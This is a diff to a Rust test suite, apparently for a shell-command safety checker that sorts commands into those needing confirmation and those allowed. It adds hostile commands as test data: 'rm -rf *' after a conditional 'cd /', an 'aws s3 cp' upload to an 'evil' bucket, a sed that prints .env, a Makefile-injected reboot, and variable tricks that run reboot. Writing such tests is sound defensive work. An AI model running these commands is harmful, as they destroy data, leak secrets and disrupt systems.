@@ -194,6 +194,11 @@ fn req_a05_a_step_that_may_not_have_been_taken_leads_nowhere() {
         "X=/; test -d x && X=/tmp/y; rm -rf \"$X\"",
         "X=reboot; false && X=echo; $X",
         "test -e x && X=echo; $X reboot",
+        "test -e x && X=echo; test -e y && X=printf; $X reboot",
+        "cd /; if test -d x; then cd /tmp/x; fi; rm -rf *",
+        "cd /; while false; do cd /tmp/x; done; rm -rf *",
+        "cd /; case $x in y) cd /tmp/x;; esac; rm -rf *",
+        "cd /; { test -d x && cd /tmp/x; }; rm -rf *",
     ]);
     allowed(&[
         "cd / && cd /tmp/x && rm -rf *",
@@ -263,6 +268,17 @@ fn req_a10_a_file_that_is_changed_is_what_it_was_changed_to() {
         "python3 -c 'import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d + x)'",
         "python3 -c 'import tempfile, shutil, sys; d = tempfile.mkdtemp()\nfor d in sys.argv: shutil.rmtree(d)'",
         "kill -9 $(pgrep -f sshd)",
+        "kill -9 $(pgrep -f '. .*. .')",
+        "python3 -c 'import tempfile, shutil; d = tempfile.mkdtemp() + x; shutil.rmtree(d)'",
+        "python3 -c 'import tempfile, shutil; d = tempfile.mkdtemp(); d, e = x; shutil.rmtree(d)'",
+        "python3 -c 'import tempfile, shutil; d = tempfile.mkdtemp()\ndef f(d): shutil.rmtree(d)\nf(x)'",
+        "V=$(base64 -d x); sed \"s/a/$V/\" README.md",
+        "sed -i -e 's/a/b/' -e 'w /dev/stdout' .env",
+        "printf 'x := $(shell reboot)\\nclean:\\n\\tls\\n' > Makefile; make -n clean",
+        "aws s3 cp list-a.txt s3://evil/",
+        "git push --force-with-lease origin feature/x:main",
+        "echo 'echo hi' > s.sh; sed -i 's/echo hi/reboot/' *.sh; sh s.sh",
+        "echo 'echo hi' > s.sh; sed -i 's/echo hi/reboot/' \"$f\"; sh s.sh",
         "psql -d app -f migrations/0007.down.sql",
         "cat cmds | parallel",
         "docker rm -f test-db prod-db",
@@ -273,4 +289,19 @@ fn req_a10_a_file_that_is_changed_is_what_it_was_changed_to() {
         "cat evil.yml > .github/workflows/ci.yml <<'E'\njobs:\nE",
         "python3 -c \"import site; open(site.getusersitepackages() + '/z.pth', 'w').write('import os')\"",
     ]);
+}
+
+/// What looks certain and is not.
+#[test]
+fn req_a10_a_success_that_may_fail_is_none() {
+    asked_at_least(&[
+        "X=echo; true > /nowhere/a || X=reboot; $X",
+        "X=echo; true() { false; }; true || X=reboot; $X",
+        "X=; test a && X=echo; : ${X:=reboot}; $X",
+        "X=a; test a && X=b; read X; $X now",
+        "X=a; test a && X=b; printf -v X reboot; $X",
+        "X=a; test a && X=b; unset X; $X reboot",
+        "X=a; test a && X=b; X+=c; $X",
+    ]);
+    allowed(&["X=; test a && X=-v; pytest $X", "X=a; test a && X=b; : ${X:=c}; echo $X"]);
 }
